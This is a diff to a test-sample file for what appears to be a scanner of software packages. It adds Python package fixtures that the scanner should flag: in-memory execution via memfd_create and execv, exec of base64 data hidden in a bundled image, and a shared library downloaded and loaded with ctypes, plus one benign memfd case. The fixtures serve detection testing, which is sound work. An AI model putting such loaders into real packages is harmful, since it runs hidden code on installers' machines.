@@ -94,8 +94,40 @@ export const samples: Samples = {
       files: imported(`require('./LICENSE.txt');\n`, { 'LICENSE.txt': 'console.log(1);\n' }),
       expected: [at('code-from-data', 'high', 'index.js', 1)],
     },
+    {
+      name: 'Python: a program that is started out of memory',
+      files: {
+        'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
+        'own/__init__.py':
+          "import os\ndef go(data):\n    fd = os.memfd_create('own')\n    os.write(fd, data)\n    os.execv(f'/proc/self/fd/{fd}', ['own'])\n",
+      },
+      expected: [{ rule: 'machine-code', file: 'own/__init__.py', line: 5, severity: 'high' }],
+    },
+    {
+      name: 'Python: data of its own that is decoded and run when a function is called',
+      files: {
+        'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
+        'own/__init__.py':
+          "import base64, pkgutil\ndef go():\n    exec(base64.b64decode(pkgutil.get_data('own', 'logo.png')))\n",
+      },
+      expected: [{ rule: 'code-from-data', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: a fetched library that is loaded',
+      files: {
+        'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
+        'own/__init__.py':
+          "import ctypes, requests\ndef go():\n    open('/tmp/own.so', 'wb').write(requests.get('https://files.weir.test/own.so').content)\n    ctypes.CDLL('/tmp/own.so')\n",
+      },
+      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 4, severity: 'high' }],
+    },
   ],
   benign: [
+    quiet('Python: memory that is shared', {
+      'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
+      'own/__init__.py':
+        "import os\ndef share(data):\n    fd = os.memfd_create('own')\n    os.write(fd, data)\n    return fd\n",
+    }),
     quiet(
       'Python: an extension that is fetched and handed to pip when somebody asks',
       wheel(
